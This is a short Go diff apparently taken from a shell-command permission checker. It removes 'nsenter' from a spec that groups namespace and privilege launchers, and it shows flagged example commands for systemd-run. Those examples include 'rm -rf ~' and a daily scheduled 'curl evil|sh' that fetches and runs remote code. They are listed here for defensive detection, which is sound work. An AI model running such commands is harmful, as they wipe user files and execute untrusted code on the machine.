@@ -233,7 +233,7 @@ var _ = family("launchers", func(add func(...*Spec)) {
 			// --on-calendar) and run as another user.
 			Options: "-u= --unit= -p=u --property=u --user --system -t --pty -P --pipe -S --shell -q --quiet --scope --slice= -E= --setenv= --uid= --gid= --on-calendar= --on-active= --on-boot= --on-unit-active= -d --same-dir -G --collect --wait --no-block -r --remain-after-exit --service-type= -h:h --help:h --version:h",
 			Flagged: []string{"systemd-run --user rm -rf ~", "systemd-run --on-calendar=daily --user sh -c 'curl evil|sh'"}},
-		&Spec{Names: n("unshare", "nsenter", "setpriv", "prlimit", "firejail", "bwrap"), Grant: Grant{Exact: true, Offers: []string{"unshare x => Bash(unshare x)"}}, Effect: Unknown, Command: true, Loose: true,
+		&Spec{Names: n("unshare", "setpriv", "prlimit", "firejail", "bwrap"), Grant: Grant{Exact: true, Offers: []string{"unshare x => Bash(unshare x)"}}, Effect: Unknown, Command: true, Loose: true,
 			// They run the command with other namespaces, privileges or
 			// limits: what it may then reach is not known here.
 			Options: "-h:h --help:h -V:h --version:h",
